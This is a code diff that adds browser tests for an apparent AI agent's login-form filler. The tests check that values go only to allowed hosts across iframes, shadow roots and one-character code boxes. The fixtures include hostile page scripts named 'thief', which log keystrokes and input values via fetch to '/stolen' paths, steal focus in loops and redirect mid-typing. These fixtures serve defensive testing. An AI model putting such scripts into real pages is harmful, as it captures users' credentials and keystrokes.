@@ -1,5 +1,7 @@
 // The agent's side of logins, over a real Chromium: reading pages as login forms, typing into them, and that values go nowhere else.
+import { once } from 'node:events'
 import { afterAll, beforeAll, expect, test } from 'vitest'
+import { WebSocket } from 'ws'
 import type { Action, PageModel } from '../../src/agent/login/contract.ts'
 import { until } from '../../src/base/wait.ts'
 import { endpointOf } from '../support/agents.ts'
@@ -21,22 +23,23 @@ let site: LoginSite
 let id: string
 let login: ReturnType<typeof loginsOf>
 let told: TelemetryEvents
+let awake: WebSocket
 beforeAll(async () => {
   cloud = await shareCloud()
   site = await serveLogins(pages)
   const options = { telemetry: capturing('interaction', 'network', 'console', 'page', 'screenshot', 'control') }
-  id = (
-    await cloud.client.browsers.create(options as object).catch((error: unknown) => {
-      console.log(cloud.log().slice(-6000))
-      throw error
-    })
-  ).session_id
+  const made = await cloud.client.browsers.create(options as object)
+  id = made.session_id
+  // A connection without commands: nobody else uses the session, and it would fall asleep.
+  awake = new WebSocket(made.cdp_ws_url)
+  await once(awake, 'open')
   told = await readTelemetry(cloud, id)
   login = loginsOf(await endpointOf(cloud, id))
   // The same machine by its address is another site, so its frames have a process of their own.
   foreign = /^[\d.]+/.exec((await runInside(cloud, id, `getent ahostsv4 ${OWN}`)).output)![0]
 }, 90_000)
 afterAll(async () => {
+  awake.close()
   await told[Symbol.asyncDispose]()
   await cloud.client.browsers.deleteByID(id)
   await site[Symbol.asyncDispose]()
@@ -110,4 +113,140 @@ test('a plain form is read with its labels, filled, sent, and what follows is wa
   expect(await login.read()).toMatchObject({ title: 'Inside', controls: [] })
   // What was read before is not acted on any more.
   expect(await login.act([fill(model, 'user')])).toMatchObject({ done: 0, problem: 'gone' })
+})
+
+test('fields in frames of this and of another site, in srcdoc frames and in shadow roots are read and filled', async () => {
+  page('inner', `<label for=a>Inner</label><input id=a name=inner oninput="parent.postMessage(['inner', value], '*')">`)
+  page(
+    'inner-far',
+    `<label for=b>Far</label><input id=b name=far oninput="parent.postMessage(['far', value], '*')"><div style="height:2000px"></div>
+    <input name=deep oninput="parent.postMessage(['deep', value], '*')">`,
+  )
+  page('frames', (request, response) => {
+    response.setHeader('content-type', 'text/html; charset=utf-8').end(`<!doctype html><title>Frames</title>
+      <iframe src=/inner style="margin:20px"></iframe><iframe title=Other src="${site.url('inner-far', foreign)}" style="border:7px solid"></iframe>
+      <iframe srcdoc="<input name=doc oninput=&quot;parent.postMessage(['doc', value], '*')&quot;>"></iframe>
+      <iframe sandbox srcdoc="<input name=boxed>"></iframe>
+      <open-one></open-one><closed-one></closed-one>
+      <script>
+        const seen = {}
+        addEventListener('message', ({ data: [name, value] }) => { seen[name] = value; document.title = JSON.stringify(seen) })
+        const make = (mode) => class extends HTMLElement { connectedCallback() {
+          const root = this.attachShadow({ mode })
+          root.innerHTML = '<label>In ' + mode + ' <input name=' + mode + '></label>'
+          root.querySelector('input').oninput = ({ target }) => postMessage([mode, target.value], '*')
+        } }
+        customElements.define('open-one', make('open')); customElements.define('closed-one', make('closed'))
+      </script>`)
+  })
+  const model = await opened('frames')
+  expect(model.frames.map(({ host, parent }) => [host, parent]).toSorted()).toEqual(
+    [
+      [OWN, null],
+      [foreign, 0],
+      ['', 0],
+      [OWN, 0],
+      [OWN, 0],
+    ].toSorted(),
+  )
+  expect(model.frames.find(({ host }) => host === foreign)).toMatchObject({ title: 'Other', visible: true })
+  const names = ['inner', 'far', 'deep', 'doc', 'open', 'closed']
+  for (const name of names) expect(controlIn(model, name), name).toMatchObject({ visible: true })
+  expect(controlIn(model, 'closed').label).toBe('In closed')
+  for (const name of names) expect(await login.act([fill(model, name, `to ${name} 1`)], [OWN, foreign]), name).toEqual({ done: 1, problem: null, host: null })
+  const { title } = await login.read()
+  expect(JSON.parse(title)).toEqual(Object.fromEntries(names.map((name) => [name, `to ${name} 1`])))
+  // Neither the frame's own host counts alone, nor that of the page; a frame without a host gets nothing.
+  const again = await login.read()
+  expect(await login.act([fill(again, 'far')], [OWN])).toEqual({ done: 0, problem: 'host', host: foreign })
+  expect(await login.act([fill(again, 'far')], [foreign])).toEqual({ done: 0, problem: 'host', host: OWN })
+  expect(await login.act([fill(again, 'boxed')], [OWN])).toEqual({ done: 0, problem: 'host', host: '' })
+  expect((await login.read()).title).toBe(title)
+})
+
+test('boxes for a code get real key events, one character each, wherever the page moves the focus', async () => {
+  page(
+    'boxes',
+    `<title>-</title>${'<input maxlength=1 inputmode=numeric name=d>'.repeat(6)}<script>
+      const all = [...document.querySelectorAll('input')], events = []
+      all.forEach((box, at) => {
+        box.id = 'd' + at
+        box.onkeydown = (event) => { if (event.isTrusted && /^[0-9]$/.test(event.key)) events.push('down' + event.key + event.code) }
+        box.onkeyup = () => all[at + 1]?.focus()
+        box.oninput = (event) => { document.title = all.map(({ value }) => value || '_').join('') + ' ' + event.isTrusted + ' ' + events.join() }
+      })
+    </script>`,
+  )
+  const model = await opened('boxes')
+  const boxes = [0, 1, 2, 3, 4, 5].map((at) => controlIn(model, `d${at}`).ref)
+  const action: Action = { kind: 'fill', ref: boxes[0]!, value: '194053', boxes }
+  expect(await login.act([action])).toEqual({ done: 1, problem: null, host: null })
+  const events = [...'194053'].map((digit) => `down${digit}Digit${digit}`).join()
+  await until('all boxes', SEEN_MS, async () => (await login.read()).title === `194053 true ${events}`)
+  expect(await login.act([{ ...action, value: '1234567' }])).toMatchObject({ done: 0, problem: 'gone' })
+})
+
+test('beside a frame of another host, keys carry no character of a code', async () => {
+  page('thief-keys', `<script>addEventListener('keydown', ({ key }) => fetch('/stolen-key?' + encodeURIComponent(key)))</script><input id=t autofocus>`)
+  page('boxes-beside', (request, response) => {
+    response.setHeader('content-type', 'text/html').end(`<!doctype html><title>-</title>
+      ${'<input maxlength=1 inputmode=numeric>'.repeat(4)}<iframe src="${site.url('thief-keys', foreign)}"></iframe><script>
+      const all = [...document.querySelectorAll('input')], keys = []
+      all.forEach((box, at) => { box.id = 'e' + at; box.onkeydown = ({ key, isTrusted }) => keys.push(key + isTrusted)
+        box.onkeyup = box.oninput = () => { document.title = all.map(({ value }) => value).join('') + keys.join() } })
+    </script>`)
+  })
+  const model = await opened('boxes-beside')
+  const boxes = [0, 1, 2, 3].map((at) => controlIn(model, `e${at}`).ref)
+  expect(await login.act([{ kind: 'fill', ref: boxes[0]!, value: '4711', boxes }])).toEqual({ done: 1, problem: null, host: null })
+  await until('all boxes', SEEN_MS, async () => (await login.read()).title === `4711${Array(4).fill('Unidentifiedtrue').join()}`)
+})
+
+test('a page that takes the focus away, moves the field or goes elsewhere gets nothing into any other document', async () => {
+  page(
+    'thief',
+    `<input id=t><script>
+    const steal = () => { t.focus(); requestAnimationFrame(steal) }
+    steal(); setInterval(() => t.focus(), 1)
+    t.oninput = () => fetch('/stolen?' + encodeURIComponent(t.value)); addEventListener('keydown', ({ key }) => fetch('/stolen?key' + key))
+  </script>`,
+  )
+  const beside = (more: string) => (request: unknown, response: { setHeader(name: string, value: string): { end(text: string): void } }) =>
+    response.setHeader('content-type', 'text/html')
+      .end(`<!doctype html><title>Hostile</title><input name=victim><iframe id=thief src="${site.url('thief', foreign)}"></iframe>
+      <iframe id=same src=/empty-page></iframe><script>const victim = document.querySelector('[name=victim]'); ${more}</script>`)
+  page('empty-page', '<p>empty')
+  const hostile: Record<string, string> = {
+    focus: `victim.onfocus = () => thief.focus()`,
+    frame: `const steal = () => { thief.contentWindow.focus(); requestAnimationFrame(steal) }; steal()`,
+    beforeinput: `victim.addEventListener('beforeinput', () => { thief.focus(); thief.contentWindow.focus() })`,
+    adopt: `victim.onfocus = () => same.contentDocument.body.append(victim)`,
+    leave: `victim.onfocus = () => { location = '${site.url('thief', foreign)}' }`,
+  }
+  for (const [name, script] of Object.entries(hostile)) {
+    page(`hostile-${name}`, beside(script) as Made)
+    const model = await opened(`hostile-${name}`)
+    const { problem, done } = await login.act([fill(model, 'victim')])
+    // It is in the field of the allowed page, or nowhere.
+    expect([name, done === 1 || problem !== null]).toEqual([name, true])
+  }
+  // A page that goes to another host between the read and the typing.
+  const goes = Promise.withResolvers<void>()
+  page('when', (request, response) => void goes.promise.then(() => response.end()))
+  page('leaves', beside(`fetch('/when').then(() => { location = '${site.url('thief', foreign)}' })`) as Made)
+  const model = await opened('leaves')
+  goes.resolve()
+  expect(await login.settle()).toMatchObject({ by: 'navigated' })
+  expect(await login.act([{ kind: 'fill', ref: model.controls[0]!.ref, value: SECRET }])).toMatchObject({ done: 0 })
+  expect(site.log.filter(({ path, host }) => path.startsWith('/stolen') && host.startsWith(foreign) && !/key(?:Shift|Unidentified)$/.test(path))).toEqual([])
+})
+
+test('a host that is not allowed gets nothing, also not by its name as a part of another', async () => {
+  page('refused', '<input name=user>')
+  const model = await opened('refused', foreign)
+  expect(await login.act([fill(model, 'user')], [OWN])).toEqual({ done: 0, problem: 'host', host: foreign })
+  const own = await opened('refused')
+  expect(await login.act([fill(own, 'user')], ['cob.internal', `x.${OWN}`, `*.x.${OWN}`])).toEqual({ done: 0, problem: 'host', host: OWN })
+  expect(await login.act([fill(own, 'user')], ['*.cob.internal'])).toMatchObject({ done: 1 })
+  expect((await login.read()).controls[0]).toMatchObject({ has_value: true })
 })
